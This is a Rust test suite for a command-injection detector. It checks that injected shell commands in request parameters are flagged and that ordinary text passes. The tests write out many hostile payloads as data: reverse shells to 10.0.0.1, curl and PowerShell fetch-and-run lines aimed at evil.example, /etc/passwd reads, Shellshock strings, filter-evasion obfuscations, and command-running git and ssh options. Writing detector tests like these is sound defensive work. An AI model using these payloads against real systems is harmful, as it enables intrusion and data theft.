use super::{find, DETECTOR};
use crate::detect::{cases, Value, Where};
use crate::rule::Severity;

fn severity(text: &[u8]) -> Option<Severity> {
    find(&Value {
        bytes: text,
        stood: Where::Parameter,
        name: b"q",
        declared: None,
    })
    .and_then(|found| {
        assert!(found.at.end <= text.len() && found.at.start <= found.at.end);
        found.severity
    })
}

#[test]
fn what_nests_deeper_than_is_read_is_found() {
    for (piece, times) in [("`x=", 4000), (">&&&", 60_000)] {
        assert_eq!(severity(piece.repeat(8).as_bytes()), None, "{piece}");
        let found = severity(piece.repeat(times).as_bytes());
        assert_eq!(found, Some(Severity::Critical), "{piece}");
    }
    // However long a list is, each of its words is read once.
    for piece in ["id;name;date;", "a|b|c\n", "AT&T, R&D\n", "`a` and `b`, "] {
        assert_eq!(severity(piece.repeat(40_000).as_bytes()), None, "{piece}");
    }
}

#[test]
fn variables_that_were_set_are_known() {
    for (text, found) in [
        ("x;a=id;$a", true),
        ("a=id;${a}", true),
        ("x;a=id;b=ls;$c;$a", true),
        ("x;a=id;$b", false),
        ("x;a= id;$a", false),
        ("x;a==b;$a", false),
    ] {
        assert_eq!(severity(text.as_bytes()).is_some(), found, "{text}");
    }
    let far = |between: usize| format!("x;a=id{};$a", " ".repeat(between));
    assert_eq!(severity(far(240).as_bytes()), Some(Severity::Critical));
    assert_eq!(severity(far(300).as_bytes()), None);
}

#[test]
fn commands_are_found() {
    for text in [
        ";id",
        "|id",
        "||id",
        "&id",
        "&&id",
        "\nid",
        "`id`",
        "$(id)",
        "127.0.0.1;id",
        "127.0.0.1; id",
        "127.0.0.1 | whoami",
        "127.0.0.1 && cat /etc/passwd",
        "127.0.0.1\ncat /etc/passwd",
        "x;cat${IFS}/etc/passwd",
        "x;cat$IFS$9/etc/passwd",
        "x;{cat,/etc/passwd}",
        "x;cat</etc/passwd",
        "x;c''at /etc/passwd",
        "x;c\\at /etc/passwd",
        "x;c$@at /etc/passwd",
        "x;/bin/c?t /etc/passwd",
        "x;/???/c?t /???/p??swd",
        "x;w'h'o'am'i",
        "x|w^h^o^a^m^i",
        "x;wh$(x)oami",
        "x;$'\\x77hoami'",
        "';id;'",
        "\";cat /etc/passwd;\"",
        "a' && sleep 5 #",
        "a\" | ping -c 4 10.0.0.1 | \"",
        "foo;sleep 5",
        "& ping -n 10 127.0.0.1 &",
        "| dir c:\\",
        "& type c:\\windows\\win.ini",
        "a;curl http://evil.example/x.sh|sh",
        "a;wget http://evil.example/x -O /tmp/x",
        "echo aWQ= | base64 -d | bash",
        "a;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "$(curl http://evil.example/`whoami`)",
        "() { :;}; /bin/bash -c 'id'",
        "() { :; }; echo vulnerable",
        "system('id')",
        "exec(\"cat /etc/passwd\")",
        "a;sudo -n id -u",
        "x;X=1 id -u",
        "x|/usr/bin/id",
        "; powershell -enc SQBFAFgA",
        "x & powershell IEX(New-Object Net.WebClient).DownloadString('http://x')",
        "cmd /c dir c:\\",
        "/bin/cat /etc/passwd",
        "cat /etc/passwd",
        "cat /etc/passwd | mail a@b",
        "a;echo abc$((1+2))",
        "a;nslookup x.evil.example",
        "$(sleep 5)",
        "name`sleep 5`",
        "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
        "x;nc -e /bin/sh 10.0.0.1 4444",
        "x;python -c 'import os'",
        "x\n/bin/ls -al\n",
        "x|ls",
        "x;ls -la",
    ] {
        assert_eq!(
            severity(text.as_bytes()),
            Some(Severity::Critical),
            "{text:?}"
        );
    }
}

#[test]
fn what_people_write_passes() {
    for text in [
        "cats & dogs; find out more",
        "AT&T",
        "ls#",
        "cat#1",
        "ls]",
        "R&D | sales",
        "price: $(100)",
        "it's cold; cat's home",
        "id;name;date",
        "fields=name|id|date",
        "en|nl|id|tr",
        "| id | name | date |",
        "$(document).ready(function(){})",
        "$(id).hide()",
        "text/html;q=0.9,application/xml;q=0.8",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "AT&amp;T; the id of it",
        "Hello ${name}, welcome; sort by date",
        "Dear all,\n\nfind the file attached.\nsort it out & look at it\nKind regards\n",
        "to be sorted\nlast night\nmore or less\nless is more\nwho knows\n",
        "a && b || c",
        "x > 5 && y < 3",
        "if (a && time > 3) return",
        "{\"cat\": \"dog\", \"find\": [1,2]}",
        "name=cat&file=report.pdf&sort=date",
        "Rock & Roll; date: 2024-05-01; time: 10:00",
        "vector<(int)>",
        "The Java/C++ exec (optional) call",
        "Salt & pepper, head & shoulders",
        "Q&A; less talk, more action",
        "head & tail",
        "one; two; three; more; less",
        "red|green|blue",
        "C:\\Users\\me\\cat.jpg",
        "/home/user1/photo.jpg",
        "my `id` field",
        "see `README.md` or `name`",
        "type: file; name: x",
        "form-data; name=\"id\"; filename=\"a.txt\"",
        "multipart/form-data; boundary=x",
    ] {
        assert_eq!(severity(text.as_bytes()), None, "{text:?}");
    }
}

#[test]
fn snippets_in_prose_are_not_refused() {
    for text in [
        "Run `ls -la` to see all files of the folder",
        "## Install\n\n```sh\nnpm install x\ncd x && make\n```\n",
        "First do this:\n\n    sudo apt-get install foo\n    ls -la | grep foo\n\nand then that.",
        "You can use ps aux | grep foo to find the process that hangs",
        "npm ci && npm run build",
        "Please try to run curl https://example.com | sh on your machine",
    ] {
        let found = severity(text.as_bytes());
        assert!(
            found.is_none_or(|severity| severity > Severity::Critical),
            "{text:?}"
        );
    }
}

#[test]
fn bytes_that_it_needs_stand_in_what_it_finds() {
    for text in ["cats and dogs", "id", "whoami"] {
        assert_eq!(severity(text.as_bytes()), None);
    }
    assert!(!DETECTOR.may_match(&crate::bytes::ByteSet::of(b"a")));
}

#[test]
fn second_words_and_hosts_make_commands() {
    for opening in ["; ", "| ", "& ", "x; ", "\n"] {
        for command in [
            "ip addr",
            "reg query HKLM\\Software",
            "sc query",
            "net user",
            "ping target_host",
            "dig a_b.example",
            "waitfor /t 5 pause",
            "sha256sum /x",
        ] {
            let text = format!("{opening}{command}");
            let found = cases::severity(&DETECTOR, Where::Parameter, &text);
            assert!(
                found.is_some_and(|found| found <= Severity::Warning),
                "{text:?}"
            );
        }
    }
    cases::are_found(
        &DETECTOR,
        Where::Parameter,
        &[
            ";X=$'cat\\x20/x'&&$X",
            "a=id;$a",
            "1\nCMD=whoami\n${CMD}",
            "${IFS}id",
            "& reg query HKLM\\Software",
        ],
    );
}

#[test]
fn those_who_build_software_pass() {
    cases::pass(
        &DETECTOR,
        Where::Parameter,
        &[
            "node ../../scripts/pack.mjs",
            "node --test --test-update-snapshots",
            "npm run build && bash scripts/build.sh",
            "`TIMEOUT <CACHES-TIMEOUT>` and `id <automatic-primary-key-fields>`",
            "Give it a name: a = $b, or a=$b; then go on",
            "x = 5; $total",
            "let us join the groups; users wait",
        ],
    );
}

#[test]
fn options_that_name_a_command_are_found() {
    for name in [
        "--upload-pack",
        "--use-compress-program",
        "--to-command",
        "--rsh",
        "--pager",
        "-oProxyCommand",
        "-o ProxyCommand",
        "--checkpoint-action",
        "--gpu-launcher",
        "-c core.sshCommand",
        "--exec",
    ] {
        for given in ["id", "/tmp/x", "exec=sh", "'touch x'"] {
            let text = format!("{name}={given}");
            assert_eq!(
                severity(text.as_bytes()),
                Some(Severity::Critical),
                "{text}"
            );
        }
    }
    for text in [
        "--color=auto",
        "-5 = x",
        "--upload-pack=<git-upload-pack>",
        "--exec-prefix and --pager=x are what people would set for it",
        "- command = id",
        "-command",
    ] {
        assert_ne!(
            severity(text.as_bytes()),
            Some(Severity::Critical),
            "{text}"
        );
    }
}

#[test]
fn a_host_and_a_port_are_what_nc_takes() {
    for opening in ["|", ";", "&&", "||", "\n", "';", "x|"] {
        for host in ["evil.example", "10.0.0.1", "attacker.corp.local"] {
            let text = format!("{opening}nc {host} 80");
            assert_eq!(
                severity(text.as_bytes()),
                Some(Severity::Critical),
                "{text}"
            );
        }
    }
    assert_ne!(
        severity(b"we live in Raleigh; nc is our home"),
        Some(Severity::Critical)
    );
}

#[test]
fn no_number_of_signs_hides_a_name() {
    let openings = [";", "|", "\n", "$(", "x && ", "a;X=1 ", "a;>x "];
    let disguises = ["''", "\"\"", "$@", "\\\n", "''\"\"", "$()", "${x}"];
    for opening in openings {
        for disguise in disguises {
            for many in [1, 25, 49, 50, 51, 60, 120, 500, 5000] {
                let hidden = disguise.repeat(many);
                let close = if opening == "$(" { ")" } else { "" };
                let text = format!("{opening}c{hidden}a{hidden}t /etc/passwd{close}");
                let found = severity(text.as_bytes());
                assert_eq!(
                    found,
                    Some(Severity::Critical),
                    "{opening:?} {many} of {disguise}"
                );
            }
        }
        for before in [
            "X=1 ",
            ">x ",
            "sudo ",
            "X=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa ",
        ] {
            for many in [1, 6, 7, 50] {
                let close = if opening == "$(" { ")" } else { "" };
                let text = format!("{opening}{}cat /etc/passwd{close}", before.repeat(many));
                let found = severity(text.as_bytes());
                assert_eq!(
                    found,
                    Some(Severity::Critical),
                    "{opening:?} {many} of {before}"
                );
            }
        }
    }
}

/// A text of Markdown with commands between fences.
fn document(before: &str, fence: &str, commands: &[&str]) -> String {
    format!(
        "{before}\n\n```{fence}\n{}\n```\n\nThat is all there is to it.\n",
        commands.join("\n")
    )
}

const SHOWN: &[&[&str]] = &[
    &[
        "cd shop && npm install",
        "npm run build; npm test",
        "curl -fsSL https://example.com/x.sh | bash",
    ],
    &[
        "sudo apt-get update",
        "sudo apt-get install -y curl",
        "cat /etc/os-release | grep VERSION",
    ],
    &[
        "$ git clone https://example.com/a.git",
        "$ cd a; make && sudo make install",
    ],
    &[
        "export VERSION=$(cat VERSION)",
        "docker run --rm -v \"$PWD\":/x img sh -c 'ls -la'",
        "rm -rf /tmp/build",
    ],
    &[
        "VERSION=1; echo $VERSION",
        "for %i in (*) do type %i",
        "wget -qO- http://x.example/y | sh -",
    ],
];

#[test]
fn what_a_document_shows_between_fences_is_a_notice_at_most() {
    for commands in SHOWN {
        for fence in ["", "bash", "sh", "console"] {
            for before in [
                "# How to install it",
                "Run these commands in a shell:",
                "To build it:\n\n1. Get it\n2. Run this",
            ] {
                let text = document(before, fence, commands);
                let found = severity(text.as_bytes());
                assert!(
                    found.is_none_or(|found| found >= Severity::Notice),
                    "{text}"
                );
            }
        }
    }
}

#[test]
fn a_name_that_hides_is_shown_by_nobody() {
    let hidden = document("How to install it", "", &["ls; c''a\"\"t /etc/passwd"]);
    let unfenced = hidden.replace("```", "~~~");
    assert!(severity(unfenced.as_bytes()).is_some());
    assert_eq!(severity(hidden.as_bytes()), severity(unfenced.as_bytes()));
}
